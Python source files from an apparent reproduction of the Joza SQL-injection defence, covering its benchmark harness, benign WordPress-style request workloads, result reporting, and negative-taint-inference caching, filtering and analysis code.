"""Plain-vs-protected workload measurement (paper Section VI).

The central primitive is :func:`measure`: build a fresh testbed, optionally
attach a Joza engine (any configuration, any daemon flavour), replay a
deterministic request stream, and record wall-clock time plus the engine's
internal accounting.  Overheads are then simple ratios of protected to plain
times over the *same* stream, which is exactly how the paper computes its
percentages.

The "PHP extension" estimates of Tables V/VI follow the paper's method
(Section VI-C): take the protected time and exclude daemon spawn and
communication costs, which an in-interpreter extension would not pay.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Callable, Iterable

from ..core.engine import EngineStats, JozaEngine
from ..core.policy import JozaConfig
from ..phpapp.application import WebApplication
from ..phpapp.request import HttpRequest
from ..pti.daemon import DaemonConfig, SubprocessPTIDaemon
from ..pti.fragments import FragmentStore
from ..testbed.plugins import build_testbed

__all__ = [
    "Measurement",
    "measure",
    "overhead_pct",
    "attributed_overhead_pct",
    "extension_estimate_pct",
]


@dataclass
class Measurement:
    """One replayed stream's timing and accounting."""

    label: str
    requests: int
    seconds: float
    blocked: int = 0
    engine: JozaEngine | None = None
    daemon_timings: dict[str, float] = field(default_factory=dict)
    #: Per-request wall-clock seconds, populated only when the stream was
    #: replayed with ``record_latencies=True`` (JSON sidecar percentiles).
    latencies: list[float] = field(default_factory=list)

    @property
    def per_request(self) -> float:
        return self.seconds / self.requests if self.requests else 0.0

    def analysis_seconds(self) -> dict[str, float]:
        """NTI/PTI analysis time spent by the engine, if protected."""
        if self.engine is None:
            return {}
        return {
            "nti": self.engine.stats.nti_seconds,
            "pti": self.engine.stats.pti_seconds,
        }


def measure(
    stream: Iterable[HttpRequest],
    label: str,
    *,
    num_posts: int = 30,
    render_cost: int = 0,
    config: JozaConfig | None = None,
    protected: bool = True,
    subprocess_daemon: bool | None = None,
    persistent_daemon: bool = True,
    app_factory: Callable[[], WebApplication] | None = None,
    warmup: Iterable[HttpRequest] = (),
    repeats: int = 1,
    extra_fragments: int = 0,
    record_latencies: bool = False,
) -> Measurement:
    """Replay ``stream`` against a fresh testbed and time it.

    Args:
        stream: requests to replay (materialised once, replayed in order).
        label: human-readable name for reports.
        num_posts: testbed size.
        config: Joza configuration (ignored when ``protected`` is False).
        protected: attach a Joza engine at all.
        subprocess_daemon: run PTI in a real child process; ``None``/False
            uses the in-process daemon.
        persistent_daemon: for the subprocess flavour, reuse one child
            (True) or spawn per query (False -- the unoptimized Figure 7
            configuration).
        app_factory: override testbed construction.
        warmup: requests replayed before timing starts (cache priming).
        repeats: fastest-of-N runs.
        record_latencies: additionally record each request's wall-clock
            time so callers can report p50/p95/p99 in their JSON sidecars
            (a perf_counter pair per request; negligible at the testbed's
            millisecond request scale).
        extra_fragments: synthetic filler fragments added to the store,
            emulating the fragment-corpus size of a full WordPress source
            tree (our synthetic plugin sources are far smaller than real
            PHP code bases); used by scale ablations.
    """
    requests = list(stream)
    warmup_requests = list(warmup)
    filler = [
        f"option_row_{i} = '%s' AND revision_{i % 97} = "
        for i in range(extra_fragments)
    ]

    def one_run() -> Measurement:
        app = (
            app_factory()
            if app_factory is not None
            else build_testbed(num_posts, render_cost=render_cost)
        )
        engine: JozaEngine | None = None
        daemon = None
        if protected:
            cfg = config or JozaConfig()

            def build_store() -> FragmentStore:
                # Filler goes FIRST: in a real corpus the fragments covering
                # a given query sit at arbitrary positions, so scans must
                # wade through unrelated fragments to reach them.
                store = FragmentStore(filler)
                store.add_many(
                    FragmentStore.from_sources(app.all_sources()).iter_all()
                )
                return store

            if subprocess_daemon:
                store = build_store()
                daemon = SubprocessPTIDaemon(
                    store, cfg.daemon, persistent=persistent_daemon
                )
                engine = JozaEngine(store, cfg, daemon=daemon)
                app.install_guard(engine)
            elif filler:
                engine = JozaEngine(build_store(), cfg)
                app.install_guard(engine)
            else:
                engine = JozaEngine.protect(app, cfg)
        blocked = 0
        try:
            for request in warmup_requests:
                app.handle(request)
            # Warmup primed the caches; restart the accounting so attributed
            # overheads cover exactly the timed window.
            if engine is not None:
                engine.stats = EngineStats()
                if hasattr(engine.daemon, "timings"):
                    engine.daemon.timings.reset()
            if daemon is not None:
                daemon.timings.reset()
            latencies: list[float] = []
            start = time.perf_counter()
            if record_latencies:
                previous = start
                for request in requests:
                    response = app.handle(request)
                    if response.blocked:
                        blocked += 1
                    now = time.perf_counter()
                    latencies.append(now - previous)
                    previous = now
            else:
                for request in requests:
                    response = app.handle(request)
                    if response.blocked:
                        blocked += 1
            seconds = time.perf_counter() - start
        finally:
            if daemon is not None:
                daemon.close()
        timings: dict[str, float] = {}
        if daemon is not None:
            timings = daemon.timings.snapshot()
        elif engine is not None and hasattr(engine.daemon, "timings"):
            timings = engine.daemon.timings.snapshot()
        return Measurement(
            label=label,
            requests=len(requests),
            seconds=seconds,
            blocked=blocked,
            engine=engine,
            daemon_timings=timings,
            latencies=latencies,
        )

    # Fastest-of-N: the standard defence against scheduler/frequency noise
    # when the quantity of interest is deterministic work.
    best = one_run()
    for __ in range(max(repeats, 1) - 1):
        candidate = one_run()
        if candidate.seconds < best.seconds:
            best = candidate
    return best


def overhead_pct(plain: Measurement, protected: Measurement) -> float:
    """Percentage overhead of the protected run over the plain run.

    Differences two wall-clock runs; at the simulator's millisecond request
    scale this carries scheduler noise, so the table benches prefer
    :func:`attributed_overhead_pct`.
    """
    if plain.seconds <= 0:
        return 0.0
    return (protected.seconds - plain.seconds) / plain.seconds * 100.0


def attributed_overhead_pct(plain: Measurement, protected: Measurement) -> float:
    """Overhead computed from the engine's precisely-attributed analysis time.

    The added work of Joza is exactly the NTI + PTI analysis time the engine
    accumulates around its own calls (including daemon spawn/IPC when a
    subprocess daemon is used).  Relating that to the plain run's wall time
    avoids differencing two noisy measurements -- the right estimator at the
    simulator's request scale, and equal in expectation to
    :func:`overhead_pct`.
    """
    if plain.seconds <= 0 or protected.engine is None:
        return 0.0
    stats = protected.engine.stats
    analysis = stats.nti_seconds + stats.pti_seconds
    return analysis / plain.seconds * 100.0


def extension_estimate_pct(plain: Measurement, protected: Measurement) -> float:
    """Estimated overhead were Joza a PHP extension (Section VI-C).

    Excludes the daemon spawn and pipe-communication time from the
    attributed analysis cost -- an extension runs inside the interpreter
    and pays neither.
    """
    if plain.seconds <= 0 or protected.engine is None:
        return 0.0
    stats = protected.engine.stats
    analysis = stats.nti_seconds + stats.pti_seconds
    spawn = protected.daemon_timings.get("spawn", 0.0)
    ipc = protected.daemon_timings.get("ipc", 0.0)
    adjusted = max(analysis - spawn - ipc, 0.0)
    return adjusted / plain.seconds * 100.0
