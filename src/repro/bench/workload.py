"""Workload generation for the performance evaluation (paper Section VI).

The paper's workloads are WordPress request streams:

- **read** -- a full site crawl ("1001 unique URLs ... approximately 20,000
  SQL queries"); here: home page, every post page, author pages.
- **write** -- posting comments (each write request issues multiple queries:
  the INSERT, the comment-count UPDATE, a COUNT read).
- **search** -- random search queries.
- **mixed** -- read/write mixes at the ratios of Table VI (50/50, 10/90,
  5/95, 1/99).

Streams are deterministic given a seed so plain/protected runs replay the
exact same traffic.
"""

from __future__ import annotations

from ..phpapp.request import HttpRequest

__all__ = [
    "read_stream",
    "write_stream",
    "search_stream",
    "mixed_stream",
    "TABLE_VI_MIXES",
]

#: The read/write mixes of Table VI as (write_fraction, label).
TABLE_VI_MIXES = (
    (0.50, "50% writes / 50% reads"),
    (0.10, "10% writes / 90% reads"),
    (0.05, "5% writes / 95% reads"),
    (0.01, "1% writes / 99% reads"),
)

_SEARCH_TERMS = (
    "lorem", "ipsum", "dolor", "tempor", "magna", "aliqua", "veniam",
    "nostrud", "labore", "consequat",
)

_COMMENT_TEXTS = (
    "really enjoyed this article thanks",
    "I disagree with the second point entirely",
    "could you expand on the performance section",
    "bookmarked for later reference",
    "this helped me fix my deployment",
)


def _lcg(seed: int):
    state = seed & 0x7FFFFFFF or 1

    def next_int(bound: int) -> int:
        nonlocal state
        state = (state * 48271) % 0x7FFFFFFF
        return state % bound

    return next_int


def read_stream(num_posts: int, count: int, seed: int = 7) -> list[HttpRequest]:
    """``count`` read requests cycling through the site's unique URLs."""
    rand = _lcg(seed)
    requests: list[HttpRequest] = []
    for i in range(count):
        kind = i % (num_posts + 3)
        if kind == 0:
            requests.append(HttpRequest(path="/"))
        elif kind <= num_posts:
            requests.append(HttpRequest(path="/post", get={"id": str(kind)}))
        else:
            requests.append(
                HttpRequest(path="/author", get={"author": str(1 + rand(2))})
            )
    return requests


def write_stream(num_posts: int, count: int, seed: int = 11) -> list[HttpRequest]:
    """``count`` comment-posting requests."""
    rand = _lcg(seed)
    return [
        HttpRequest(
            method="POST",
            path="/comment",
            post={
                "post_id": str(1 + rand(num_posts)),
                "author": f"visitor{rand(1000)}",
                "content": _COMMENT_TEXTS[rand(len(_COMMENT_TEXTS))],
            },
        )
        for __ in range(count)
    ]


def search_stream(count: int, seed: int = 13) -> list[HttpRequest]:
    """``count`` search requests over a small vocabulary."""
    rand = _lcg(seed)
    return [
        HttpRequest(
            path="/search", get={"s": _SEARCH_TERMS[rand(len(_SEARCH_TERMS))]}
        )
        for __ in range(count)
    ]


def mixed_stream(
    num_posts: int, count: int, write_fraction: float, seed: int = 17
) -> list[HttpRequest]:
    """A deterministic interleaving of reads and writes at a given ratio."""
    writes_wanted = round(count * write_fraction)
    reads = read_stream(num_posts, count - writes_wanted, seed)
    writes = write_stream(num_posts, writes_wanted, seed + 1)
    rand = _lcg(seed + 2)
    stream: list[HttpRequest] = []
    r = w = 0
    for i in range(count):
        remaining = count - i
        writes_left = len(writes) - w
        take_write = writes_left > 0 and rand(remaining) < writes_left
        if take_write:
            stream.append(writes[w])
            w += 1
        else:
            stream.append(reads[r])
            r += 1
    return stream
