"""Measurement harness for the paper's performance evaluation (Section VI)."""

from .reporting import (
    latency_summary,
    pct,
    percentile,
    render_kv,
    render_table,
    save_json,
    save_result,
)
from .runner import (
    Measurement,
    extension_estimate_pct,
    measure,
    overhead_pct,
)
from .workload import (
    TABLE_VI_MIXES,
    mixed_stream,
    read_stream,
    search_stream,
    write_stream,
)

__all__ = [
    "latency_summary",
    "pct",
    "percentile",
    "render_kv",
    "render_table",
    "save_json",
    "save_result",
    "Measurement",
    "extension_estimate_pct",
    "measure",
    "overhead_pct",
    "TABLE_VI_MIXES",
    "mixed_stream",
    "read_stream",
    "search_stream",
    "write_stream",
]
