"""Paper-style ASCII rendering of tables and series.

Every benchmark regenerating a table or figure funnels its rows through
these helpers so output is uniform and diffable, and persists the rendered
text under ``benchmarks/results/`` for EXPERIMENTS.md.
"""

from __future__ import annotations

import json
import os

__all__ = [
    "render_table",
    "render_kv",
    "save_result",
    "save_json",
    "pct",
    "percentile",
    "latency_summary",
    "RESULTS_DIR",
]

#: Default output directory for rendered experiment artefacts.
RESULTS_DIR = os.path.join(os.path.dirname(__file__), "..", "..", "..", "benchmarks", "results")


def pct(value: float) -> str:
    """Format a percentage the way the paper prints them (two decimals)."""
    return f"{value:.2f}%"


def render_table(title: str, headers: list[str], rows: list[list[object]]) -> str:
    """Render an ASCII table with a title rule."""
    cells = [[str(c) for c in row] for row in rows]
    widths = [len(h) for h in headers]
    for row in cells:
        for i, cell in enumerate(row):
            widths[i] = max(widths[i], len(cell))
    sep = "+".join("-" * (w + 2) for w in widths)
    sep = f"+{sep}+"

    def line(items: list[str]) -> str:
        return "| " + " | ".join(c.ljust(w) for c, w in zip(items, widths)) + " |"

    out = [title, sep, line(headers), sep]
    out.extend(line(row) for row in cells)
    out.append(sep)
    return "\n".join(out)


def render_kv(title: str, pairs: list[tuple[str, object]]) -> str:
    """Render key/value pairs (for figure-style series)."""
    width = max((len(k) for k, __ in pairs), default=0)
    lines = [title]
    lines.extend(f"  {k.ljust(width)} : {v}" for k, v in pairs)
    return "\n".join(lines)


def save_result(name: str, text: str, results_dir: str | None = None) -> str:
    """Persist rendered output under the results directory; returns path."""
    directory = os.path.abspath(results_dir or RESULTS_DIR)
    os.makedirs(directory, exist_ok=True)
    path = os.path.join(directory, f"{name}.txt")
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(text.rstrip() + "\n")
    return path


def save_json(name: str, payload: dict, results_dir: str | None = None) -> str:
    """Persist a machine-readable JSON sidecar next to the rendered text.

    Every benchmark's human-facing table keeps its ``.txt`` artefact; the
    sidecar carries the raw numbers (latency percentiles, cache counters)
    so dashboards and regression gates can consume them without parsing
    ASCII tables.
    """
    directory = os.path.abspath(results_dir or RESULTS_DIR)
    os.makedirs(directory, exist_ok=True)
    path = os.path.join(directory, f"{name}.json")
    with open(path, "w", encoding="utf-8") as handle:
        json.dump(payload, handle, indent=2, sort_keys=True)
        handle.write("\n")
    return path


def percentile(values: list[float], q: float) -> float:
    """Nearest-rank percentile (q in [0, 1]) of a latency sample."""
    if not values:
        return 0.0
    ordered = sorted(values)
    index = min(int(round(q * (len(ordered) - 1))), len(ordered) - 1)
    return ordered[index]


def latency_summary(values: list[float]) -> dict[str, float]:
    """The p50/p95/p99 summary every JSON sidecar reports, in seconds."""
    return {
        "count": float(len(values)),
        "mean": sum(values) / len(values) if values else 0.0,
        "p50": percentile(values, 0.50),
        "p95": percentile(values, 0.95),
        "p99": percentile(values, 0.99),
    }
