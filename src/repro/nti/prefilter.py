"""NTI-side policy layer for the multi-candidate filter kernel.

:mod:`repro.matching.filter` supplies the mechanism (q-gram pigeonhole
windows, packed multi-lane verification); this module supplies the policy
and the observability:

- :data:`PREFILTER_CHOICES` -- the ``NTIConfig.prefilter`` selector.
  ``"off"`` disables all filtering (the differential-oracle setting:
  combined with ``matcher="dp"`` it is the verbatim unfiltered pipeline
  every property test compares against).  ``"qgram"`` enables only the
  pigeonhole prefilter.  ``"auto"`` (the production default) additionally
  routes the small-candidate regime -- patterns the pigeonhole cannot
  split into probe-able pieces -- through the packed multi-lane scan.
- :class:`FilterStats` -- plain unlocked counters (the
  :class:`~repro.nti.cache.CacheStats` convention) recording filter
  effectiveness: seeds probed, candidates pruned by each mechanism,
  packed-lane verifications, anchored-window coverage.  Surfaced through
  ``NTIAnalyzer.filter_stats()`` into ``cache_stats()["nti"]`` and the
  engine's ``resilience_report()``, and consumed by the ablation bench's
  pruning-rate sidecar.
- :func:`packable` -- the routing predicate for the packed regime.

Filtering is *never* applied when ``matcher="dp"`` is selected: the DP
pipeline stays byte-for-byte the paper's oracle regardless of the
``prefilter`` setting.
"""

from __future__ import annotations

from ..matching.filter import (
    FULL_SCAN,
    MIN_PIECE,
    PACKED_MAX_PATTERN,
    edit_budget,
    packed_survivors,
    qgram_applicable,
    qgram_filtered_match,
)

__all__ = [
    "PREFILTER_CHOICES",
    "FilterStats",
    "packable",
    "edit_budget",
    "packed_survivors",
    "qgram_applicable",
    "qgram_filtered_match",
    "FULL_SCAN",
    "MIN_PIECE",
    "PACKED_MAX_PATTERN",
]

#: Accepted values for :attr:`repro.nti.inference.NTIConfig.prefilter`.
PREFILTER_CHOICES = ("auto", "off", "qgram")


class FilterStats:
    """Effectiveness counters for the NTI filter kernel.

    Plain unlocked ``int`` attributes, incremented in place by the
    matching layer (GIL-atomic enough for observability; the same
    convention as the cache hit counters).  All derived ratios are
    computed in :meth:`as_dict` so the hot path only ever does ``+=``.
    """

    __slots__ = (
        "seeds_probed",
        "seed_hits",
        "pruned_qgram",
        "pruned_zero_budget",
        "anchored_scans",
        "anchored_window_chars",
        "anchored_text_chars",
        "fallthrough_full_scan",
        "packed_scans",
        "packed_lanes",
        "pruned_packed",
        "packed_verified",
        "exact_hits",
    )

    def __init__(self) -> None:
        #: pigeonhole pieces probed against the gram index
        self.seeds_probed = 0
        #: probes whose piece occurred verbatim (seed windows opened)
        self.seed_hits = 0
        #: candidates proven matchless by the pigeonhole (no scan run)
        self.pruned_qgram = 0
        #: zero-budget candidates resolved by the containment probe alone
        self.pruned_zero_budget = 0
        #: candidates verified by anchored (windowed) scans
        self.anchored_scans = 0
        #: total text chars covered by merged anchor windows
        self.anchored_window_chars = 0
        #: total text chars the unfiltered scans would have covered
        self.anchored_text_chars = 0
        #: candidates where the filter declined and the full scan ran
        self.fallthrough_full_scan = 0
        #: packed multi-lane scan invocations
        self.packed_scans = 0
        #: candidate lanes carried by those scans
        self.packed_lanes = 0
        #: lanes proven matchless by the packed scan
        self.pruned_packed = 0
        #: packed survivors re-verified by the exact matcher
        self.packed_verified = 0
        #: candidates resolved by the exact-containment fast path
        self.exact_hits = 0

    def as_dict(self) -> dict[str, float]:
        """Flat float mapping for ``cache_stats()`` / bench sidecars."""
        anchored = self.anchored_scans
        probed = self.pruned_qgram + anchored
        packed = self.packed_lanes
        return {
            "seeds_probed": float(self.seeds_probed),
            "seed_hits": float(self.seed_hits),
            "pruned_qgram": float(self.pruned_qgram),
            "pruned_zero_budget": float(self.pruned_zero_budget),
            "anchored_scans": float(self.anchored_scans),
            "anchored_window_chars": float(self.anchored_window_chars),
            "anchored_text_chars": float(self.anchored_text_chars),
            "anchored_window_fraction": (
                self.anchored_window_chars / self.anchored_text_chars
                if self.anchored_text_chars
                else 0.0
            ),
            "fallthrough_full_scan": float(self.fallthrough_full_scan),
            "qgram_prune_rate": (self.pruned_qgram / probed) if probed else 0.0,
            "packed_scans": float(self.packed_scans),
            "packed_lanes": float(self.packed_lanes),
            "pruned_packed": float(self.pruned_packed),
            "packed_verified": float(self.packed_verified),
            "packed_prune_rate": (self.pruned_packed / packed) if packed else 0.0,
            "exact_hits": float(self.exact_hits),
        }


def packable(value: str, budget: int) -> bool:
    """Whether a candidate belongs to the packed small-pattern regime.

    Complements :func:`repro.matching.filter.qgram_applicable`: patterns
    too short for the pigeonhole split (so the q-gram filter cannot touch
    them) but with a budget strictly below their length (so the packed
    scan's "score never within budget" outcome is a real proof of
    no-match rather than vacuous).
    """
    return 0 < len(value) <= PACKED_MAX_PATTERN and budget < len(value)
