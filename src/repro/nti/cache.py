"""NTI match caches, mirroring the PTI query cache (paper Section IV-C.2).

The PTI side caches *query -> verdict* because "many queries of a web
application are constant".  The NTI side has the symmetric property: the
same handful of input values (search terms, comment bodies, IDs) recurs
against the same handful of query shapes, so the ``(input value, query)``
pair -- the entire key of a substring-match computation -- repeats heavily
across requests.  Two caches exploit this:

- :class:`NTIMatchCache` -- bounded LRU from ``(input value, query string)``
  to the :class:`~repro.matching.ratio.RatioMatch` (or ``None`` for a
  proven non-match).  Soundness: the match result is a pure function of the
  pair plus the analyzer's threshold and matcher choice, both fixed for the
  analyzer owning the cache (all matcher variants are exact-equivalent);
  ``RatioMatch``/``SubstringMatch`` are frozen, so sharing one instance
  across requests is safe.  Negative results are cached too -- benign
  traffic is the common case, and a cached "no match" skips the whole
  pruning-plus-scan pipeline.
- :class:`TextProfileCache` -- bounded LRU from query string to its
  :class:`~repro.matching.substring.TextProfile` (character-frequency and
  bigram pruning tables).  Within one request the profile is reused across
  every candidate input; across requests it is reused whenever the same
  query text recurs.

Hit/miss accounting reuses :class:`repro.pti.caches.CacheStats` so the
bench reporting layer can surface NTI and PTI cache behaviour uniformly.
"""

from __future__ import annotations

import threading
from collections import OrderedDict
from typing import Hashable

from ..matching.ratio import RatioMatch
from ..matching.substring import TextProfile
from ..pti.caches import CacheStats

__all__ = ["NTIMatchCache", "TextProfileCache"]

#: Distinguishes "not cached" from a cached negative (``None``) result.
_MISSING = object()


class _KeyedLRUCache:
    """Bounded LRU over arbitrary hashable keys with hit/miss accounting.

    The PTI :class:`~repro.pti.caches._LRUCache` maps plain strings and
    conflates "absent" with "cached None"; NTI caches need tuple keys and
    cached negatives, hence the sentinel-based protocol here.

    Thread-safe: LRU reads rewire the recency list, so lookup and store
    both take the internal lock (held only for the O(1) dict work; cached
    payloads are immutable, so sharing them across threads is free).
    """

    def __init__(self, capacity: int = 4096) -> None:
        if capacity <= 0:
            raise ValueError("capacity must be positive")
        self.capacity = capacity
        self._store: OrderedDict[Hashable, object] = OrderedDict()
        self._lock = threading.Lock()
        self.stats = CacheStats()

    def lookup(self, key: Hashable) -> object:
        """Return the cached payload or the module sentinel on a miss."""
        with self._lock:
            store = self._store
            if key in store:
                store.move_to_end(key)
                self.stats.hits += 1
                return store[key]
            self.stats.misses += 1
            return _MISSING

    def store(self, key: Hashable, value: object) -> None:
        with self._lock:
            self._store[key] = value
            self._store.move_to_end(key)
            while len(self._store) > self.capacity:
                self._store.popitem(last=False)

    def clear(self) -> None:
        with self._lock:
            self._store.clear()

    def __len__(self) -> int:
        return len(self._store)


class NTIMatchCache(_KeyedLRUCache):
    """Cross-request LRU: ``(input value, query)`` -> match result.

    ``get`` returns ``(hit, result)`` so a cached ``None`` (proven
    non-match) is distinguishable from a cache miss.
    """

    def get(self, value: str, query: str) -> tuple[bool, RatioMatch | None]:
        cached = self.lookup((value, query))
        if cached is _MISSING:
            return False, None
        return True, cached  # type: ignore[return-value]

    def put(self, value: str, query: str, result: RatioMatch | None) -> None:
        self.store((value, query), result)


class TextProfileCache(_KeyedLRUCache):
    """Cross-request LRU: query string -> :class:`TextProfile`.

    ``get_or_build`` never returns a miss -- it builds and caches the
    profile on demand (the build itself is what the cache amortises).
    """

    def get_or_build(self, query: str) -> TextProfile:
        cached = self.lookup(query)
        if cached is not _MISSING:
            return cached  # type: ignore[return-value]
        profile = TextProfile(query)
        self.store(query, profile)
        return profile

    def peek(self, query: str) -> TextProfile | None:
        """The cached profile if present, else ``None`` -- never builds.

        Lets the batched prefilter reuse an already-materialised profile
        (and its adaptive seed index) without forcing the ``O(query)``
        table build for requests whose candidates all prune.  Refreshes
        recency but does not touch the hit/miss stats: a peek-miss is not
        a build the cache failed to amortise.
        """
        with self._lock:
            store = self._store
            profile = store.get(query)
            if profile is not None:
                store.move_to_end(query)
        return profile  # type: ignore[return-value]
