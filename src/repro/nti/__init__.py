"""Negative taint inference component (paper Section III-A)."""

from .cache import NTIMatchCache, TextProfileCache
from .inference import NTIAnalyzer, NTIConfig
from .prefilter import PREFILTER_CHOICES, FilterStats
from .sources import candidate_inputs

__all__ = [
    "NTIAnalyzer",
    "NTIConfig",
    "NTIMatchCache",
    "TextProfileCache",
    "PREFILTER_CHOICES",
    "FilterStats",
    "candidate_inputs",
]
