"""Negative taint inference component (paper Section III-A)."""

from .inference import NTIAnalyzer, NTIConfig
from .sources import candidate_inputs

__all__ = ["NTIAnalyzer", "NTIConfig", "candidate_inputs"]
