"""Input enumeration and pre-filtering for NTI.

NTI iterates over "each input source S, for each input p in S" (paper
Section III-A pseudo-code).  This module turns a captured
:class:`~repro.phpapp.context.RequestContext` into the candidate list that
feeds the matcher, applying the cheap filters that keep NTI fast:

- empty values carry no taint and are dropped;
- values longer than the query plus the edit budget cannot match any
  substring and are dropped (the "skip implausible comparisons" heuristic);
- duplicates (the same value arriving via two parameters) are matched once.
"""

from __future__ import annotations

from ..phpapp.context import RequestContext

__all__ = ["candidate_inputs"]


def candidate_inputs(
    context: RequestContext,
    query: str,
    threshold: float,
) -> list[str]:
    """Input values worth running the substring matcher on.

    The length cutoff is derived from the threshold exactly like the match
    budget in :func:`repro.matching.ratio.match_with_ratio`: an input of
    length ``n`` can only match with distance ``d <= threshold * n /
    (1 - threshold)``, and the matched substring is at most the whole query,
    so inputs with ``n - len(query) > budget`` can never pass.
    """
    seen: set[str] = set()
    out: list[str] = []
    qlen = len(query)
    for value in context.values():
        if not value or value in seen:
            continue
        seen.add(value)
        budget = (
            int(threshold * len(value) / (1.0 - threshold)) if threshold else 0
        )
        if len(value) - qlen > budget:
            continue
        out.append(value)
    return out
