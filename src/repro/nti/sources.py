"""Input enumeration and pre-filtering for NTI.

NTI iterates over "each input source S, for each input p in S" (paper
Section III-A pseudo-code).  This module turns a captured
:class:`~repro.phpapp.context.RequestContext` into the candidate tuple
that feeds the matcher, applying the cheap filters that keep NTI fast:

- empty values carry no taint and are dropped;
- values longer than the query plus the edit budget cannot match any
  substring and are dropped (the "skip implausible comparisons"
  heuristic);
- duplicates (the same value arriving via two parameters) are matched once.

The length filter used to recompute ``int(threshold * n / (1 - threshold))``
per value per query.  The drop condition ``n - len(query) > budget(n)``
depends only on ``n`` and is monotone in it (see :func:`_length_cutoff`),
so it collapses to a single integer cutoff per ``(threshold, query
length)`` pair -- computed once, memoised, and applied as one comparison
per value.  The result is an immutable tuple so the engine's per-batch
candidate memo (and any other cross-request reuse) can hand the same
object to every consumer without defensive copies.
"""

from __future__ import annotations

from ..matching.filter import edit_budget
from ..phpapp.context import RequestContext

__all__ = ["candidate_inputs"]

#: ``(threshold, query_length) -> max keepable input length`` (``None`` =
#: no limit).  Thresholds come from fixed configs and query lengths are
#: small integers, so the table stays tiny; the cap is a safety valve.
_CUTOFF_CACHE: dict[tuple[float, int], int | None] = {}
_CUTOFF_CACHE_MAX = 4096

_EMPTY: tuple[str, ...] = ()


def _length_cutoff(threshold: float, qlen: int) -> int | None:
    """Largest input length that can survive the budget filter.

    A value of length ``n`` is kept iff ``n - qlen <= budget(n)`` with
    ``budget(n) = int(threshold * n / (1 - threshold))`` (see
    :func:`repro.matching.filter.edit_budget`).  Writing ``g(n) = n -
    budget(n)``, the keep condition is ``g(n) <= qlen`` and ``g`` is
    non-decreasing whenever ``threshold / (1 - threshold) < 1``: the
    truncated budget grows by at most one per unit of ``n`` (and shrinks
    for the degenerate negative-ratio case), so ``g`` never decreases.
    The kept lengths therefore form a prefix ``n <= cutoff`` found by
    binary search.  For ``threshold >= 0.5`` the ratio is ``>= 1``, the
    budget dominates ``n`` outright and every length survives (``None``).
    """
    if not threshold:
        return qlen
    ratio = threshold / (1.0 - threshold)
    if ratio >= 1.0:
        return None
    # g(0) = 0 <= qlen always, so the cutoff is >= 0; the linear lower
    # bound g(n) >= n * (1 - ratio) caps the search range.
    lo = 0
    hi = int((qlen + 1) / (1.0 - ratio)) + 2
    while hi - lo > 1:
        mid = (lo + hi) // 2
        if mid - edit_budget(mid, threshold) <= qlen:
            lo = mid
        else:
            hi = mid
    return lo


def _cutoff_for(threshold: float, qlen: int) -> int | None:
    key = (threshold, qlen)
    try:
        return _CUTOFF_CACHE[key]
    except KeyError:
        cutoff = _length_cutoff(threshold, qlen)
        if len(_CUTOFF_CACHE) >= _CUTOFF_CACHE_MAX:
            _CUTOFF_CACHE.clear()
        _CUTOFF_CACHE[key] = cutoff
        return cutoff


def candidate_inputs(
    context: RequestContext,
    query: str,
    threshold: float,
) -> tuple[str, ...]:
    """Input values worth running the substring matcher on.

    The length cutoff is derived from the threshold exactly like the match
    budget in :func:`repro.matching.ratio.match_with_ratio`: an input of
    length ``n`` can only match with distance ``d <= threshold * n /
    (1 - threshold)``, and the matched substring is at most the whole query,
    so inputs with ``n - len(query) > budget`` can never pass.
    """
    cutoff = _cutoff_for(threshold, len(query))
    seen: set[str] = set()
    out: list[str] = []
    for value in context.values():
        if not value or value in seen:
            continue
        seen.add(value)
        if cutoff is not None and len(value) > cutoff:
            continue
        out.append(value)
    return tuple(out) if out else _EMPTY
