"""Negative taint inference (NTI).

Implements the algorithm of paper Section III-A:

.. code-block:: text

    query q = intercept_query()
    for each input source, S
        for each input p, in S
            diff_ratio = substring_distance(q, p)
            if diff_ratio < threshold
                mark_negative_taint(q, p)

followed by the detection rule: the query is an attack iff some *single*
input's inferred marking fully covers at least one critical token.  Two
false-positive guards come straight from the paper:

- markings inferred from different inputs are never combined (otherwise
  one-letter inputs ``O`` and ``R`` would taint every ``OR``);
- a match only counts if it covers "at least one whole SQL token", so an
  input like ``1`` matching the data position of ``WHERE ID=1`` is benign.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..core.verdict import AnalysisResult, Detection, TaintMarking, Technique
from ..matching.ratio import DEFAULT_NTI_THRESHOLD, match_with_ratio
from ..phpapp.context import RequestContext
from ..sqlparser.parser import critical_tokens
from ..sqlparser.tokens import Token
from .sources import candidate_inputs

__all__ = ["NTIConfig", "NTIAnalyzer"]


@dataclass(frozen=True)
class NTIConfig:
    """Tunables for the NTI component.

    Attributes:
        threshold: maximum difference ratio accepted as a match.  The paper
            discusses the sensitivity of this knob at length (Section
            III-A); 0.20 matches Figure 2C's arithmetic.
        min_input_length: inputs shorter than this are never matched.  The
            default of 1 relies purely on the whole-token rule, as the
            paper does.
    """

    threshold: float = DEFAULT_NTI_THRESHOLD
    min_input_length: int = 1


class NTIAnalyzer:
    """Stateless analyzer: correlate raw inputs with an intercepted query."""

    def __init__(self, config: NTIConfig | None = None) -> None:
        self.config = config or NTIConfig()

    def analyze(
        self,
        query: str,
        context: RequestContext,
        tokens: list[Token] | None = None,
    ) -> AnalysisResult:
        """Run NTI over one query.

        Args:
            query: the intercepted SQL string.
            context: raw-input snapshot captured at request entry.
            tokens: optional pre-computed critical tokens.  The Joza
                pipeline reuses "the critical tokens and keywords previously
                obtained by the PTI Daemon" (Section IV-D); standalone use
                recomputes them.
        """
        crit = tokens if tokens is not None else critical_tokens(query)
        markings: list[TaintMarking] = []
        detections: list[Detection] = []
        for value in candidate_inputs(context, query, self.config.threshold):
            if len(value) < self.config.min_input_length:
                continue
            matched = match_with_ratio(value, query, self.config.threshold)
            if matched is None:
                continue
            marking = TaintMarking(
                start=matched.start,
                end=matched.end,
                technique=Technique.NTI,
                origin=value,
                ratio=matched.ratio,
            )
            markings.append(marking)
            for token in crit:
                if marking.covers(token):
                    detections.append(
                        Detection(
                            technique=Technique.NTI,
                            reason=(
                                "critical token covered by negative taint "
                                f"(ratio {matched.ratio:.3f})"
                            ),
                            token_text=token.text,
                            token_start=token.start,
                            token_end=token.end,
                            input_value=value,
                        )
                    )
        return AnalysisResult(
            technique=Technique.NTI,
            safe=not detections,
            markings=markings,
            detections=detections,
        )
