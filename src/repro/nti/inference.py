"""Negative taint inference (NTI).

Implements the algorithm of paper Section III-A:

.. code-block:: text

    query q = intercept_query()
    for each input source, S
        for each input p, in S
            diff_ratio = substring_distance(q, p)
